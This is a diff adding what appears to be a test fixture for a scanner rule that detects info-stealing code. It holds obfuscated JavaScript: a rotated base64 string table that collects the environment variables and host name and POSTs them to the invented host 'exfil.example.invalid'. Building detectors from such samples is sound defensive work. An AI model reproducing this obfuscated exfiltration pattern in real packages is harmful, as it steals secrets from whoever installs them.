@@ -1,0 +1,11 @@
+// Defanged model of javascript-obfuscator output (string table, rotation, base64 entries): the
+// environment and host name go to an invented host at install time.
+const _0x4b2c=['cmVxdWVzdA==','aG9zdG5hbWU=','ZW52','UE9TVA==','d3JpdGU=','ZW5k','c3RyaW5naWZ5','b3M=','ZXhmaWwuZXhhbXBsZS5pbnZhbGlk','aHR0cHM='];
+(function(_0x2d8f05,_0x4b81bb){const _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x4b2c,0x1a3));
+const _0x4d74=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;let _0x4d74cb=_0x4b2c[_0x2d8f05];if(_0x4d74['initialized']===undefined){_0x4d74['decode']=function(_0x1){return Buffer['from'](_0x1,'base64')['toString']('utf8');};_0x4d74['initialized']=!![];}_0x4d74cb=_0x4d74['decode'](_0x4d74cb);return _0x4d74cb;};
+const _0x1a=require(_0x4d74('0x0')),_0x1b=require(_0x4d74('0x8'));
+const _0x1c=JSON[_0x4d74('0x7')]({h:_0x1b[_0x4d74('0x2')](),e:process[_0x4d74('0x3')]});
+// ruleid: code/info-stealing
+const _0x1d=_0x1a[_0x4d74('0x1')]({hostname:_0x4d74('0x9'),path:'/c',method:_0x4d74('0x4')});
+// ruleid: code/info-stealing
+_0x1d[_0x4d74('0x5')](_0x1c);_0x1d[_0x4d74('0x6')]();
